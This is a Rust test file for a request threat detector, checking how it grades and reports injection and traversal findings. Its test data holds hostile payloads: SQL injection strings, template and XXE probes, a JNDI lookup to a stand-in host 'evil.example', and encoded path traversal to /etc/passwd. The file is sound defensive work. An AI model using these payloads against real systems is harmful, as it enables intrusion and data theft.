//! What a finding says.

use tenancy_security::threat::{Detector, Place, Severity, ThreatKind};

#[test]
fn a_finding_names_kind_place_and_reason_and_never_the_value() {
    let value = "hunter2' or '1'='1";
    let finding = Detector::new()
        .check(Place::Cookie, value.as_bytes())
        .unwrap();
    assert_eq!(finding.kind(), ThreatKind::SqlInjection);
    assert_eq!(finding.place(), Place::Cookie);
    assert!(finding.severity() >= Severity::High);
    assert!(!finding.description().is_empty());
    let said = format!("{finding} {finding:?}");
    assert!(
        said.contains("cookie") && !said.contains("hunter2"),
        "{said}"
    );
}

#[test]
fn one_step_up_is_refused_in_a_path_and_passes_in_a_text() {
    let detector = Detector::new();
    let text = b"see ../notes for more";
    assert!(detector.check(Place::Json, text).is_none());
    assert!(detector.check(Place::Path, b"/docs/../notes").is_some());
}

#[test]
fn what_a_text_may_name_is_a_weak_finding_where_it_is_not_reached_for() {
    let severity = |place, value: &str| {
        let finding = Detector::new().check(place, value.as_bytes());
        finding.map(|finding| finding.severity())
    };
    for (value, alone, amid) in [
        ("php.ini", "php.ini", "conf/php.ini"),
        (".env", ".env", "app/.env"),
        ("{{config}}", "Dear {{config}}", "{{config}}"),
    ] {
        assert_eq!(
            severity(Place::Query, alone),
            Some(Severity::Low),
            "{value}"
        );
        assert_eq!(
            severity(Place::Query, amid),
            Some(Severity::High),
            "{value}"
        );
    }
    for path in ["/phpinfo.php", "/blog/.DS_Store", "/actuator/env"] {
        assert_eq!(severity(Place::Path, path), Some(Severity::Low), "{path}");
        assert_eq!(severity(Place::Query, path), None, "{path}");
    }
    assert_eq!(severity(Place::Query, "1 or id"), Some(Severity::Low));
    assert_eq!(severity(Place::Query, "2 or more"), None);
}

#[test]
fn a_weak_finding_hides_no_strong_one_behind_it() {
    for value in [
        "Dear {{config}} {{7*7}}",
        "Dear {{config}} <!ENTITY x>",
        "Dear {{config}} ${jndi:ldap://evil.example/a}",
        "Dear {{config}}' or 1=1 -- ",
        "php.ini/../../etc/hosts",
        ".env/etc/passwd",
        "1 or id' or '1'='1",
        "php.ini%2fetc%2fpasswd",
    ] {
        let finding = Detector::new().check(Place::Query, value.as_bytes());
        assert!(
            finding.is_some_and(|finding| finding.severity().blocks()),
            "{value}"
        );
    }
}
